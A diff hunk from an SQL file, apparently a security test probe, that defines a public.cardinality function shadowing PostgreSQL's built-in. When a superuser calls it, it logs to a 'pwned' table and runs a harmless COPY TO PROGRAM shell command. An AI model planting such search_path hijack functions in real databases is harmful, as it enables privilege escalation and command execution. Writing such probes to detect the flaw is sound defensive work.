@@ -550,7 +550,7 @@ CREATE FUNCTION public.cardinality(bigint[]) RETURNS integer LANGUAGE plpgsql AS
 BEGIN
     INSERT INTO public.pwned SELECT current_user, rolsuper FROM pg_roles WHERE rolname = current_user;
     IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
-        COPY (SELECT 1) TO PROGRAM 'true';
+        COPY (SELECT 1) TO PROGRAM 'cat > /dev/null';  -- a program that reads what it is sent: no broken pipe
         INSERT INTO public.pwned VALUES ('COPY TO PROGRAM', true);
     END IF;
     RETURN pg_catalog.cardinality($1);
